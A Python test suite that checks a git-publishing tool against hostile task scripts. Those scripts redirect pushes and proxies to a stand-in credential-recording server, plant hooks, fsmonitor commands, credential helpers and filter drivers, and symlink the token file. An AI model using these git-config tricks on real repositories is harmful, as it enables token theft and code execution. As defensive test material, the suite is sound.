"""The task is hostile: everything it can write is tried against `publish`, in both run modes.

Each vector is a task script that tries to make `publish` send the token elsewhere, run a
program of the task's choosing, push paths outside `allowed_paths`, or skip the writeback.
It runs through the real three steps against a git server on 127.0.0.1 that demands the
token, with a second server (`CredentialRecorder`) that records any credential it receives,
as a git server and as a proxy. Each run is held to the same promises:

- the token reaches no one but the real server, and is in no output, message or pushed object;
- no program the task named ran (markers in a folder the scripts write to when run);
- a published branch holds the base commit plus the work tree the task left, only inside
  `allowed_paths`, with the task marked completed in the same commit;
- a refused run says why (its reason) and pushes nothing.

Modes: `local` is `backlogctl run` (the task a local process); `job` runs the steps as separate
processes with the Job's mounts (token and private folder only for clone and publish).
"""

from __future__ import annotations

import os
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from backlog_operator.adapters import git as gitops
from backlog_operator.adapters.git import GitCredentials, GitError
from backlog_operator.api.goal import Goal
from backlog_operator.backlog.document import BacklogDocument
from backlog_operator.backlog.model import path_allowed
from tests.git.conftest import TOKEN, RunOutcome
from tests.support.gitrepos import GitHttpServer, make_remote, remote_branches, run_git
from tests.support.pod import Pod
from tests.support.recorder import CredentialRecorder

BACKLOG_PATH = ".backlog/backlog.yaml"
BACKLOG = """\
tasks:
  - id: docs-only
    title: Write docs
    ready: true
    allowed_paths: ["docs/**"]
  - id: anywhere
    title: Change anything
    ready: true
"""
WORK = "mkdir -p docs && printf 'work\\n' > docs/work.md"


@dataclass(frozen=True)
class Vector:
    """A hostile task: its script, the task it runs as, and how the run must end."""

    script: str
    task_id: str = "docs-only"
    reason: str | None = None  # None: published (the tampering had no effect)


HOOKS = " ".join(
    ["pre-commit", "post-commit", "pre-push", "reference-transaction", "post-index-change"]
)
EVIL_CONFIG = (
    'printf \'[url "%s"]\\n\\tinsteadOf = %s\\n[http]\\n\\tproxy = %s\\n'
    "[core]\\n\\tfsmonitor = echo include >> %s/ran\\n' "
    '"$EVIL_URL" "$REAL_URL" "$EVIL_PROXY" "$MARKER"'
)
FAKE_RECORD = (
    'mkdir -p ../.backlog-state && printf \'{"base_commit": "%s", "backlog_path": '
    '"x.yaml", "task_found": false, "allowed_paths": null}\' "$(git rev-parse HEAD)" '
    "> ../.backlog-state/clone.json"
)

VECTORS: dict[str, Vector] = {
    # Where publish fetches and pushes, and which credentials go where.
    "remote-url": Vector(f'{WORK}; git config remote.origin.url "$EVIL_URL"'),
    "push-url": Vector(f'{WORK}; git config remote.origin.pushurl "$EVIL_URL"'),
    "instead-of": Vector(f'{WORK}; git config url."$EVIL_URL".insteadOf "$REAL_URL"'),
    "push-instead-of": Vector(f'{WORK}; git config url."$EVIL_URL".pushInsteadOf "$REAL_URL"'),
    "proxy": Vector(f'{WORK}; git config http.proxy "$EVIL_PROXY"'),
    "proxy-for-url": Vector(f'{WORK}; git config http."$REAL_URL".proxy "$EVIL_PROXY"'),
    "include": Vector(
        f"{WORK}; {EVIL_CONFIG} > ../evil.config; "
        'git config include.path "$PWD/../evil.config"; '
        'git config includeIf.gitdir:/.path "$PWD/../evil.config"'
    ),
    "credential-helper": Vector(
        f"{WORK}; git config credential.helper "
        '"!echo helper >> $MARKER/ran; echo username=u; echo password=p"'
    ),
    "home-config": Vector(
        f'{WORK}; {EVIL_CONFIG} > "$HOME/.gitconfig"; mkdir -p "$HOME/.config/git"; '
        'cp "$HOME/.gitconfig" "$HOME/.config/git/config"'
    ),
    # Programs publish would run.
    "fsmonitor": Vector(f"{WORK}; git config core.fsmonitor 'echo fsmonitor >> $MARKER/ran'"),
    "ssh-command": Vector(f"{WORK}; git config core.sshCommand 'echo ssh >> $MARKER/ran'"),
    "hooks": Vector(
        f"{WORK}; for h in {HOOKS}; do "
        'printf "#!/bin/sh\\necho $h >> $MARKER/ran\\n" > .git/hooks/$h; '
        "chmod +x .git/hooks/$h; done; "
        "mkdir -p ../hooks && cp .git/hooks/* ../hooks/ && "
        'git config core.hooksPath "$PWD/../hooks"'
    ),
    "filter-diff-merge-drivers": Vector(
        f"{WORK}; printf '* filter=evil diff=evil merge=evil\\n' > docs/.gitattributes; "
        "git config filter.evil.clean 'echo clean >> $MARKER/ran; cat'; "
        "git config filter.evil.process 'echo process >> $MARKER/ran'; "
        "git config diff.evil.textconv 'echo textconv >> $MARKER/ran; cat'; "
        "git config diff.external 'echo external >> $MARKER/ran'; "
        "git config merge.evil.driver 'echo merge >> $MARKER/ran'"
    ),
    # The git folder itself.
    "safe-directory-and-worktree": Vector(
        f"{WORK}; git config safe.directory '*'; git config core.worktree /"
    ),
    "git-folder-becomes-a-file": Vector(
        f'{WORK}; mv .git ../task-git && printf "gitdir: %s\\n" "$EVIL_GIT" > .git'
    ),
    "git-folder-becomes-a-link": Vector(f'{WORK}; rm -rf .git && ln -s "$EVIL_GIT" .git'),
    "alternates": Vector(f'{WORK}; echo "$EVIL_GIT/objects" > .git/objects/info/alternates'),
    "replaced-index": Vector(
        f"{WORK}; echo outside > outside.txt && git add -A && rm outside.txt && "
        "cp .git/index ../index && git read-tree --empty && git add docs"
    ),
    "task-commits": Vector(
        f"{WORK}; git add -A && git -c user.name=t -c user.email=t@t commit -qm mine && "
        "echo later > docs/later.md && git add -A && "
        "git -c user.name=t -c user.email=t@t commit -qm later && echo more >> docs/later.md"
    ),
    # The clone step's record and the backlog.
    "fake-record-widens-paths": Vector(
        f"{WORK}; {FAKE_RECORD}; echo x > outside.txt", reason="PathViolation"
    ),
    "fake-record-skips-writeback": Vector(f"{WORK}; {FAKE_RECORD}"),
    "backlog-widens-paths": Vector(
        f'{WORK}; sed -i "s|\\["docs/\\*\\*"\\]|["**"]|" {BACKLOG_PATH}; echo x > outside.txt',
        reason="PathViolation",
    ),
    "backlog-becomes-a-link": Vector(
        f"{WORK}; cp {BACKLOG_PATH} docs/fake.yaml && rm {BACKLOG_PATH} && "
        f"ln -s ../docs/fake.yaml {BACKLOG_PATH}",
        task_id="anywhere",
        reason="InvalidBacklog",
    ),
    "backlog-folder-becomes-a-link": Vector(
        f"{WORK}; mv .backlog docs/bk && ln -s docs/bk .backlog",
        task_id="anywhere",
        reason="InvalidBacklog",
    ),
    "backlog-becomes-a-folder": Vector(
        f"{WORK}; rm {BACKLOG_PATH} && mkdir {BACKLOG_PATH} && echo x > {BACKLOG_PATH}/x",
        task_id="anywhere",
        reason="InvalidBacklog",
    ),
    "backlog-becomes-a-fifo": Vector(
        f"{WORK}; rm {BACKLOG_PATH} && mkfifo {BACKLOG_PATH}",
        task_id="anywhere",
        reason="UnsupportedFile",
    ),
    "backlog-grows-huge": Vector(
        f"{WORK}; printf '# ' >> {BACKLOG_PATH}; "
        f"head -c 6000000 /dev/zero | tr '\\0' a >> {BACKLOG_PATH}",
        task_id="anywhere",
        reason="InvalidBacklog",
    ),
    "backlog-removed": Vector(
        f"{WORK}; rm {BACKLOG_PATH}", task_id="anywhere", reason="InvalidBacklog"
    ),
    # Reading the work tree.
    "link-to-the-token": Vector(f'{WORK}; ln -s "$TOKEN_PATH" docs/token'),
    "work-tree-becomes-a-link": Vector(
        f'{WORK}; cd .. && mv repo repo.task && ln -s "$(dirname "$TOKEN_PATH")" repo',
        reason="InvalidWorkspace",
    ),
    "submodule": Vector(
        f"{WORK}; mkdir -p docs/sub && cd docs/sub && git init -q && echo x > f && "
        "git add f && git -c user.name=t -c user.email=t@t commit -qm x",
        reason="SubmoduleChange",
    ),
    "case-collision": Vector(f"{WORK}; echo other > docs/Work.md", reason="CaseCollision"),
    "attributes-convert-content": Vector(
        "mkdir -p docs && printf 'a\\r\\nb\\n$Id$\\n' > docs/raw.txt && "
        "printf '* text eol=crlf ident working-tree-encoding=UTF-16 filter=evil\\n' "
        "> .gitattributes",
        task_id="anywhere",
    ),
}


@dataclass
class Stage:
    """The servers and files one run is played against."""

    root: Path
    remote: Path
    server: GitHttpServer
    recorder: CredentialRecorder
    token_file: Path
    marker: Path
    home: Path
    url: str
    base: str

    def goal(self, vector: Vector) -> dict[str, Any]:
        env = {
            "REAL_URL": self.url,
            "EVIL_URL": self.recorder.url_for("/evil.git"),
            # A user name in the proxy URL makes git ask its credential helper for a password.
            "EVIL_PROXY": self.recorder.proxy_url.replace("http://", "http://u@"),
            "EVIL_GIT": str(self.root / "evil.git"),
            "MARKER": str(self.marker),
            "TOKEN_PATH": str(self.token_file),
        }
        return {
            "apiVersion": "backlog.dev/v1alpha1",
            "kind": "Goal",
            "metadata": {"name": "hostile", "namespace": "team", "uid": "0000-1111"},
            "spec": {
                "repository": {"url": self.url, "credentialsSecret": {"name": "forge"}},
                "backlog": {"taskId": vector.task_id},
                "task": {
                    "image": "busybox",
                    "command": ["sh", "-c", vector.script],
                    "env": [{"name": k, "value": v} for k, v in env.items()],
                },
                "pullRequest": {"provider": "none"},
            },
        }


@pytest.fixture
def stage(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Stage]:
    projects = tmp_path / "srv"
    projects.mkdir()
    remote = make_remote(projects, {BACKLOG_PATH: BACKLOG, "README.md": "# project\n"})
    # A git folder the task points its clone at: its config would send everything elsewhere.
    evil = tmp_path / "evil.git"
    run_git("init", "--quiet", "--bare", str(evil))
    token_file = tmp_path / "secret" / "token"
    token_file.parent.mkdir()
    token_file.write_text(TOKEN + "\n")
    marker = tmp_path / "marker"
    marker.mkdir()
    home = tmp_path / "home"
    home.mkdir()
    (tmp_path / "pod").mkdir()
    monkeypatch.setenv("HOME", str(home))  # local runs: the task and publish share this HOME
    with GitHttpServer(projects, TOKEN) as server, CredentialRecorder() as recorder:
        url = server.url_for(remote)
        run_git(
            "--git-dir", str(evil), "config", f"url.{recorder.url_for('/x.git')}.insteadOf", url
        )
        run_git("--git-dir", str(evil), "config", "core.fsmonitor", f"echo evil >> {marker}/ran")
        base = run_git("--git-dir", str(remote), "rev-parse", "main").strip()
        yield Stage(tmp_path, remote, server, recorder, token_file, marker, home, url, base)


def run_local(
    stage: Stage, vector: Vector, run_goal: Callable[..., RunOutcome]
) -> tuple[dict[str, Any], list[str]]:
    goal = stage.root / "goal.yaml"
    goal.write_text(yaml.safe_dump(stage.goal(vector)))
    outcome = run_goal(
        goal, "--token-file", str(stage.token_file), "--workspace", str(stage.root / "ws")
    )
    return outcome.result, [outcome.stdout, outcome.stderr]


def run_job(stage: Stage, vector: Vector) -> tuple[dict[str, Any], list[str]]:
    pod = Pod(
        stage.root / "pod",
        Goal.model_validate(stage.goal(vector)),
        token_file=stage.token_file,
        home=stage.home,
    )
    result = pod.run()
    messages = [path.read_text() for path in pod.logs.iterdir()]
    return result, pod.outputs + messages


@pytest.mark.parametrize("mode", ["local", "job"])
@pytest.mark.parametrize("name", sorted(VECTORS))
def test_hostile_task_cannot_steer_publish(
    stage: Stage,
    name: str,
    mode: str,
    run_goal: Callable[..., RunOutcome],
    caplog: pytest.LogCaptureFixture,
) -> None:
    vector = VECTORS[name]
    if mode == "local":
        result, outputs = run_local(stage, vector, run_goal)
    else:
        result, outputs = run_job(stage, vector)

    assert not stage.recorder.saw(TOKEN), stage.recorder.requests
    assert not stage.recorder.credentials()
    assert not list(stage.marker.iterdir()), [p.read_text() for p in stage.marker.iterdir()]
    for text in [*outputs, caplog.text, repr(result)]:
        assert TOKEN not in text
    assert TOKEN.encode() not in all_objects(stage.remote)
    branches = [branch for branch in remote_branches(stage.remote) if branch != "main"]
    if vector.reason is not None:
        assert (result["outcome"], result.get("reason")) == ("failed", vector.reason), str(result)
        assert result["message"]
        assert branches == []
        return
    assert result["outcome"] == "published", str(result)
    assert branches == [result["branch"]]
    assert_published(stage, vector, result)


def assert_published(stage: Stage, vector: Vector, result: dict[str, Any]) -> None:
    """One commit on the base: the task's work tree inside allowed_paths, plus the writeback."""
    remote, commit = stage.remote, result["commit"]
    parents = run_git("--git-dir", str(remote), "rev-list", "--parents", "-n1", commit).split()
    assert parents[1:] == [stage.base]
    changed = run_git(
        "--git-dir",
        str(remote),
        "diff-tree",
        "-r",
        "--name-only",
        "--no-renames",
        stage.base,
        commit,
    ).split()
    allowed = ["docs/**"] if vector.task_id == "docs-only" else ["**"]
    assert [
        path for path in changed if path != BACKLOG_PATH and not path_allowed(path, allowed)
    ] == []
    assert set(changed) == set(result["changedFiles"])
    backlog = run_git("--git-dir", str(remote), "show", f"{commit}:{BACKLOG_PATH}").encode()
    task = BacklogDocument.parse(backlog, source=BACKLOG_PATH).find(vector.task_id)
    assert task is not None
    assert task.status == "completed"
    if "docs/work.md" in changed:
        assert show(remote, commit, "docs/work.md") == b"work\n"


def show(remote: Path, commit: str, path: str) -> bytes:
    return run_git("--git-dir", str(remote), "cat-file", "blob", f"{commit}:{path}").encode(
        "utf-8", "surrogateescape"
    )


def all_objects(remote: Path) -> bytes:
    """Every object of the remote, uncompressed."""
    listing = run_git(
        "--git-dir", str(remote), "cat-file", "--batch-all-objects", "--batch", "--unordered"
    )
    return listing.encode("utf-8", "surrogateescape")


# ---------------------------------------------------------- what each vector leaves, in detail


def test_task_commits_are_not_pushed_but_its_work_tree_is(
    stage: Stage, run_goal: Callable[..., RunOutcome]
) -> None:
    result, _ = run_local(stage, VECTORS["task-commits"], run_goal)

    assert result["outcome"] == "published"
    assert show(stage.remote, result["commit"], "docs/later.md") == b"later\nmore\n"
    log = run_git("--git-dir", str(stage.remote), "log", "--format=%s", result["commit"])
    assert not {"mine", "later"} & set(log.split("\n"))


def test_a_link_is_committed_as_a_link_never_followed(
    stage: Stage, run_goal: Callable[..., RunOutcome]
) -> None:
    result, _ = run_local(stage, VECTORS["link-to-the-token"], run_goal)

    entry = run_git("--git-dir", str(stage.remote), "ls-tree", result["commit"], "docs/token")
    assert entry.startswith("120000 blob ")
    assert show(stage.remote, result["commit"], "docs/token") == str(stage.token_file).encode()


def test_attributes_in_the_work_tree_convert_nothing(
    stage: Stage, run_goal: Callable[..., RunOutcome]
) -> None:
    result, _ = run_local(stage, VECTORS["attributes-convert-content"], run_goal)

    assert result["outcome"] == "published"
    assert show(stage.remote, result["commit"], "docs/raw.txt") == b"a\r\nb\n$Id$\n"
    assert ".gitattributes" in result["changedFiles"]


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("backlog-becomes-a-link", "symbolic link"),
        ("backlog-becomes-a-folder", "folder"),
        ("backlog-grows-huge", "over the limit"),
        ("backlog-removed", "removed the backlog file"),
        ("work-tree-becomes-a-link", "not a folder"),
        ("submodule", "docs/sub"),
        ("case-collision", "docs/Work.md"),
    ],
)
def test_refusals_say_what_was_refused(
    stage: Stage, run_goal: Callable[..., RunOutcome], name: str, words: str
) -> None:
    result, _ = run_local(stage, VECTORS[name], run_goal)

    assert words in result["message"]


def test_plain_http_to_a_remote_host_gets_no_token(tmp_path: Path) -> None:
    credentials = GitCredentials(token_file=tmp_path / "token")
    with pytest.raises(GitError) as refused:
        credentials.environment("http://git.example.com/o/r.git")
    assert refused.value.reason == "InsecureUrl"
    assert "insecure" in str(refused.value)
    allowed = GitCredentials(token_file=tmp_path / "token", insecure=True)
    assert "BACKLOG_GIT_TOKEN_FILE" in allowed.environment("http://git.example.com/o/r.git")
    for loopback in ("http://127.0.0.1:8080/r.git", "http://localhost/r.git", "http://[::1]/r"):
        assert "BACKLOG_GIT_TOKEN_FILE" in credentials.environment(loopback)
    assert os.fspath(tmp_path / "token") not in str(credentials.environment("git@host:o/r.git"))


def test_token_is_offered_only_to_the_repository_host(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A proxy from the environment, with a user name: git asks the credential helper for the
    # proxy's password too. Only the repository's scheme, host and port get an answer.
    proxy = stage.recorder.proxy_url.replace("http://", "http://u@")
    for name in ("http_proxy", "HTTP_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.setenv(name, proxy)
    for name in ("no_proxy", "NO_PROXY"):
        monkeypatch.delenv(name, raising=False)
    credentials = GitCredentials(token_file=stage.token_file)

    with pytest.raises(GitError) as refused:
        gitops.clone(stage.url, stage.root / "clone", "main", credentials=credentials)

    # git asked for the proxy's password, got none, and stopped there.
    assert f"127.0.0.1:{stage.recorder.port}" in str(refused.value)
    assert refused.value.reason == "AuthenticationFailed"
    assert not stage.recorder.saw(TOKEN)


def test_what_a_local_task_leaves_running_is_ended_with_it(
    stage: Stage, run_goal: Callable[..., RunOutcome]
) -> None:
    late = f'{WORK}; (sleep 1; echo late > "$MARKER/late") > /dev/null 2>&1 & exit 0'

    result, _ = run_local(stage, Vector(late), run_goal)
    time.sleep(1.5)

    assert result["outcome"] == "published"
    assert not (stage.marker / "late").exists()
